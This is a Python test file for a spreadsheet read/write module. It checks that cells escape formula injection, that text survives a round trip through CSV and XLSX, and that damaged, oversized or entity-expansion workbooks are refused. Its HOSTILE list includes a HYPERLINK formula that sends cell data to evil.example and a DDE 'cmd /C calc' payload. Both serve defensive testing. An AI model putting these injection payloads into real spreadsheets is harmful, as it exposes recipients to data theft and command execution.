"""Cells and tables: nothing runs, nothing is lost, and what is no table is refused with the cure."""

import io
import zipfile
from datetime import date, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from articles.store.sheets.cells import LONGEST_CELL, as_cell, as_text, fitting, is_left_out
from articles.store.sheets.columns import Unfit, as_lines, in_date, in_lines
from articles.store.sheets.tables import FORMULA, MOST_ROWS, Table, Unreadable, read_table
from articles.store.sheets.writing import LONGEST_SHEET, TooLarge, write_sheet

BEGINS = "=+-@＝＋－＠"
HOSTILE = [
    '=HYPERLINK("http://evil.example/"&A1,"招商")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1",
    "  =1+1",
    "＝1+1",
    "－1",
    "'=1+1",
    "''=1",
    "'tis",
    "--12-29",
    "-",
    "招商\u200b会\u202e",
    "\x0b\x0c\x1f",
    "\ufffe\uffff",
    "⟨U+200B⟩",
    "⟨U+27E8⟩U+0041⟩",
    "_x0041_",
    "1234567890123456",
    "12e4567890123456",
    "0012",
    "2024-03",
    "2024-03-12",
    "甲；乙",
    'a"b","c',
    "两\n行",
    "\u2028线",
    "𠮷",
]
WORDS = st.text(
    st.one_of(st.sampled_from([*BEGINS, *"'\t\r\n 0129eE⟨⟩U+_x-;,\"\ufeff\u200b\ufffe"]), st.characters(exclude_categories=())), max_size=40
)


@given(WORDS)
@settings(max_examples=400, deadline=None)
def test_any_text_comes_back_to_the_letter(text: str) -> None:
    cell = as_cell(text)
    assert as_text(cell) == text
    assert not cell.lstrip().startswith(tuple(BEGINS))
    assert not cell.startswith(("\t", "\r", "\n"))


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=12), min_size=1, max_size=4))
@settings(max_examples=100, deadline=None)
def test_any_texts_come_back_from_a_csv(texts: list[str]) -> None:
    table = read_table(write_sheet("csv", "s", ["a", "b", "c", "d", "end"], [[*texts, *[""] * (4 - len(texts)), "."]], total=1).read())
    assert list(table.rows[0].cells)[: len(texts)] == texts


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_hostile_cells_come_back_and_are_no_formulas(form: str) -> None:
    data = write_sheet(form, "s", ["name", "="], [[text, "."] for text in HOSTILE], total=len(HOSTILE)).read()
    table = read_table(data)
    assert [row.cells[0] for row in table.rows] == HOSTILE
    if form == "csv":
        assert data.startswith(b"\xef\xbb\xbf")
        return
    for row in load_workbook(io.BytesIO(data)).active.iter_rows():
        assert all(cell.data_type in "sn" for cell in row)
        assert all(cell.number_format == "@" for cell in row if cell.value is not None)


def test_a_cell_too_long_for_xlsx_says_so_and_changes_nothing() -> None:
    long = "字" * (LONGEST_CELL + 1)
    (row,) = read_table(write_sheet("xlsx", "s", ["name"], [[long]], total=1).read()).rows
    assert is_left_out(row.cells[0])
    assert "32768 characters" in row.cells[0]
    assert read_table(write_sheet("csv", "s", ["name"], [[long]], total=1).read()).rows[0].cells == (long,)
    assert fitting("字" * LONGEST_CELL) == "字" * LONGEST_CELL


def test_more_rows_than_xlsx_holds_are_refused() -> None:
    with pytest.raises(TooLarge, match="CSV"):
        write_sheet("xlsx", "s", ["name"], [], total=LONGEST_SHEET)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030", "utf-16"])
@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("end", ["\r\n", "\n", "\r"])
def test_tables_of_many_kinds(encoding: str, separator: str, end: str) -> None:
    text = end.join([separator.join(["key", "name"]), separator.join(["1", '"招商""会\r\n乙"']), "", separator.join(["2", "丙"])])
    table = read_table(text.encode(encoding))
    assert table == Table(("key", "name"), table.rows)
    assert [(row.number, row.cells) for row in table.rows] == [(2, ("1", '招商"会\n乙')), (4, ("2", "丙"))]


def test_excel_says_what_separates() -> None:
    assert read_table(b"sep=;\r\nkey;name, other\r\n1;2\r\n").rows[0].cells == ("1", "2")


def book(rows: list[list[object]]) -> bytes:
    made, file = Workbook(), io.BytesIO()
    assert made.active is not None
    for row in rows:
        made.active.append(row)
    made.save(file)
    return file.getvalue()


def test_a_workbook_as_people_save_it() -> None:
    row: list[object] = ["2024-03", datetime(2024, 3, 12), date(2024, 3, 13), 320507, 3.0, 0.5, True, None, "=1+1", "末"]
    table = read_table(book([[f"c{number}" for number in range(10)], [], row]))
    assert table.rows[0].number == 3
    assert table.rows[0].cells == ("2024-03", "2024-03-12", "2024-03-13", "320507", "3", "0.5", "1", "", FORMULA, "末")


def packed(parts: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return file.getvalue()


BOMB = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "ha">]><workbook>&b;</workbook>'


@pytest.mark.parametrize(
    ("data", "cure"),
    [
        (b"", "empty"),
        (b"\xef\xbb\xbf\r\n,,\r\n", "empty"),
        (b"\x81\xff\x00\x01", "CSV UTF-8"),
        (b"key,name\0\n", "CSV UTF-8"),
        (b'key,name\n"1,2\n', "never closed"),
        (b'key,name\n"1"x,2\n', "closed one"),
        (b"key,name\n1,2,3\n", "Row 2 has 3 cells"),
        (b"key\n" + b"1\n" * (MOST_ROWS + 1), "10000 rows"),
        (b"key\n" + b"," * 2000, "more cells"),
        (b"PK\x03\x04 and nothing else", "damaged"),
        (packed({"a.txt": b"a"}), "no workbook"),
        (packed({"xl/workbook.xml": b"<workbook/>"}), "save it anew"),
        (packed({"xl/workbook.xml": BOMB}), "no spreadsheet program"),
        (packed({"xl/workbook.xml": b" " * 3_000_000 + BOMB}), "no spreadsheet program"),
        (packed({"xl/workbook.xml": BOMB.decode().encode("utf-16")}), "no spreadsheet program"),
        (packed({"xl/workbook.xml": b" " * (101 << 20)}), "too large unpacked"),
    ],
)
def test_what_is_no_table_is_refused_with_the_cure(data: bytes, cure: str) -> None:
    from django.utils import translation

    with translation.override("en"), pytest.raises(Unreadable, match=cure):
        read_table(data)


@pytest.mark.parametrize(
    "text", ["2024-13", "2024-02-30", "12/3/2024", "Mar-24", "--12", "2024-03-12/", "明天", "2024-1-1/2024-1-2/2024-1-3"]
)
def test_what_is_no_date_is_refused(text: str) -> None:
    with pytest.raises(Unfit):
        in_date(text)


def test_several_names_in_a_cell() -> None:
    names = ["甲；乙", "丙;丁", "戊\n己", "庚"]
    assert in_lines(as_lines(names)) == names
    assert in_lines(" 甲 ; 乙\n甲；") == ["甲", "乙"]
